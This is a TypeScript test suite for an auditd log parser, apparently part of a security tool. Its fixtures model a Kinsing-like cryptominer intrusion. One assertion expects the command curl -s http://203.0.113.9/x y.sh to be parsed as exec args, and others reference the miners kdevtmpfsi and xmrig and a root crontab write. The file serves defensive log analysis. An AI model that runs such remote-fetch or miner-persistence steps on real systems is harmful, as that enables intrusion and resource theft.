import assert from 'node:assert/strict';
import { test } from 'node:test';
import { auditd } from './auditd.js';
import { fileInput, memoryInput, readAll, runSourceContract } from './contract.js';

const good = fileInput('test/fixtures/auditd/good.log', { hostHint: 'web-01' });
const goodText = good.head.toString('utf8');
const SYSCALL_4130 =
  'type=SYSCALL msg=audit(1700000100.000:900): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4130 uid=0 comm="kdevtmpfsi"';
runSourceContract({
  source: auditd,
  good,
  bad: fileInput('test/fixtures/auditd/bad.log'),
  // the log copied while auditd wrote a miner's exec: the file ends inside its quoted exe
  cut: {
    input: memoryInput('cut.log', `${goodText}${SYSCALL_4130} exe="/tmp/kdevtm`),
    at: 25,
    broken: '"/tmp/kdevtm',
  },
});

test('groups interleaved records by serial and decodes hex arguments', async () => {
  const { events } = await readAll(auditd, good);
  const exec = events.find((e) => e.process?.pid === 1305 && e.event.action === 'exec');
  assert.deepEqual(exec?.process?.args, ['curl', '-s', 'http://203.0.113.9/x y.sh']);
  assert.equal(exec?.process?.working_directory, '/root');
  assert.equal(exec?.process?.parent?.pid, 1201);
  assert.equal(exec?.coalmine.ref.line, 1);
  const connect = events.find((e) => e.process?.pid === 1305 && e.event.action === 'connect');
  assert.deepEqual(connect?.destination, { port: 80, ip: '203.0.113.9' });
});

test('decodes IPv6 socket addresses and uses ENRICHED fields', async () => {
  const { events } = await readAll(auditd, good);
  const v6 = events.find((e) => e.process?.pid === 900);
  assert.deepEqual(v6?.destination, { port: 3333, ip: '2001:67c:4e8::15' });
  assert.equal(v6?.event.outcome, 'success', 'EINPROGRESS is a normal non-blocking connect');
  assert.equal(v6?.process?.user?.name, 'root');
});

test('links a kill to its victim through OBJ_PID, and reads file writes', async () => {
  const { events } = await readAll(auditd, good);
  const kill = events.find((e) => e.event.action === 'kill');
  assert.deepEqual(kill?.process?.target, { pid: 777, signal: 9, name: 'xmrig' });
  const write = events.find((e) => e.event.action === 'file-write');
  assert.equal(write?.file?.path, '/var/spool/cron/crontabs/root');
});

test('node= prefixes name the host; duplicates and unused record types produce nothing extra', async () => {
  const { events } = await readAll(auditd, good);
  assert.equal(events.find((e) => e.process?.pid === 42)?.host?.name, 'db-02');
  assert.equal(events.find((e) => e.process?.pid === 1305)?.host?.name, 'web-01');
  assert.equal(events.length, 6);
});

test('bad records are reported with their line and reason', async () => {
  const { issues } = await readAll(auditd, fileInput('test/fixtures/auditd/bad.log'));
  const codes = issues.map((i) => `${i.line}:${i.code}`);
  assert.ok(codes.includes('4:AUDITD_BAD_RECORD'), codes.join(' '));
  assert.ok(codes.includes('15:AUDITD_BAD_HEX'), codes.join(' '));
  assert.ok(codes.includes('5:AUDITD_BAD_RECORD'), codes.join(' '));
  assert.ok(
    codes.some((c) => c.endsWith('AUDITD_BAD_HEX')),
    codes.join(' '),
  );
  assert.ok(
    codes.some((c) => c.endsWith('AUDITD_NO_SYSCALL')),
    codes.join(' '),
  );
});

test('a record split across read chunks is still grouped (records arrive byte by byte)', async () => {
  const text = (await import('node:fs')).readFileSync('test/fixtures/auditd/good.log');
  const input = memoryInput('tiny-chunks.log', text, {
    hostHint: 'web-01',
    async *open() {
      for (let i = 0; i < text.length; i += 13) yield text.subarray(i, i + 13);
    },
  });
  const a = await readAll(auditd, input);
  const b = await readAll(auditd, good);
  assert.equal(a.events.length, b.events.length);
});

test('reads the bundled example: every exec, connect, kill and cron write', async () => {
  const { events, issues } = await readAll(
    auditd,
    fileInput('examples/kinsing-like/var/log/audit/audit.log', { hostHint: 'web-01' }),
  );
  assert.deepEqual(issues, []);
  const count = (a: string) => events.filter((e) => e.event.action === a).length;
  assert.deepEqual([count('exec'), count('connect'), count('kill'), count('file-write')], [11, 3, 1, 1]);
});

test('a field cut or corrupted anywhere is reported on its line and dropped; the rest of the record is read', async () => {
  const cases: Array<{ name: string; line: string; code: string; broken: string }> = [
    {
      name: 'quote never closed',
      line: `${SYSCALL_4130} exe="/tmp/kdevtm`,
      code: 'AUDITD_TRUNCATED',
      broken: '/tmp/kdevtm',
    },
    {
      name: 'hex of odd length',
      line: `${SYSCALL_4130} exe=2F746D702F6B646576746`,
      code: 'AUDITD_BAD_HEX',
      broken: '2F746D702F6B646576746',
    },
    { name: 'not hex at all', line: `${SYSCALL_4130} exe=/tmp/x`, code: 'AUDITD_BAD_HEX', broken: '/tmp/x' },
    { name: 'key= with no value', line: `${SYSCALL_4130} exe=`, code: 'AUDITD_TRUNCATED', broken: 'exe=' },
    {
      name: "msg=' block never closed",
      line: `${SYSCALL_4130} msg='acct=intruder exe="/tmp/kd"`,
      code: 'AUDITD_TRUNCATED',
      broken: 'intruder',
    },
    {
      name: 'SADDR={ never closed',
      line: `${SYSCALL_4130} exe="/tmp/kd" \u001dSADDR={ saddr_fam=inet laddr=1.2`,
      code: 'AUDITD_TRUNCATED',
      broken: 'laddr',
    },
  ];
  for (const c of cases) {
    // mid-file, with a newline after it: the cut is found from the record alone
    const text = `${c.line}\ntype=EOE msg=audit(1700000100.000:900): \n${goodText}`;
    const { events, issues } = await readAll(auditd, memoryInput('mid.log', text));
    assert.ok(
      issues.some((i) => i.line === 1 && i.code === c.code),
      `${c.name}: ${JSON.stringify(issues)}`,
    );
    const exec = events.find((e) => e.process?.pid === 4130);
    assert.equal(exec?.process?.name, 'kdevtmpfsi', `${c.name}: the whole fields are still read`);
    assert.ok(exec?.process?.executable === undefined || exec.process.executable === '/tmp/kd', c.name);
    assert.ok(!JSON.stringify(events).includes(c.broken), `${c.name}: an event carries ${c.broken}`);
  }
});

test('the last line with no newline: its last unquoted value may be cut and is dropped; a whole quoted one is kept', async () => {
  // even-length hex decodes, so only the missing newline shows the cut: /tmp/k of /tmp/kdevtmpfsi
  const hexCut = await readAll(auditd, memoryInput('hex.log', `${goodText}${SYSCALL_4130} exe=2F746D702F6B`));
  assert.ok(
    hexCut.issues.some((i) => i.line === 25 && i.code === 'AUDITD_TRUNCATED'),
    JSON.stringify(hexCut.issues),
  );
  const exec = hexCut.events.find((e) => e.process?.pid === 4130);
  assert.equal(exec?.process?.executable, undefined);
  assert.equal(exec?.process?.name, 'kdevtmpfsi');
  // the same record whole, ending in a closed quote: read as is
  const whole = await readAll(auditd, memoryInput('whole.log', `${goodText}${SYSCALL_4130} exe="/tmp/kdevtmpfsi"`));
  assert.deepEqual(whole.issues, []);
  assert.equal(whole.events.find((e) => e.process?.pid === 4130)?.process?.executable, '/tmp/kdevtmpfsi');
});

test('a record cut inside its msg=audit( stamp is a bad record on its line', async () => {
  for (const cutAt of ['type=SYSCALL msg=audit(1700000100.0', 'type=SYSCALL msg=aud', 'type=SYSC']) {
    const { events, issues } = await readAll(auditd, memoryInput('stamp.log', `${goodText}${cutAt}`));
    assert.ok(
      issues.some((i) => i.line === 25 && i.code === 'AUDITD_BAD_RECORD'),
      `${cutAt}: ${JSON.stringify(issues)}`,
    );
    assert.equal(events.length, 6, cutAt);
  }
});
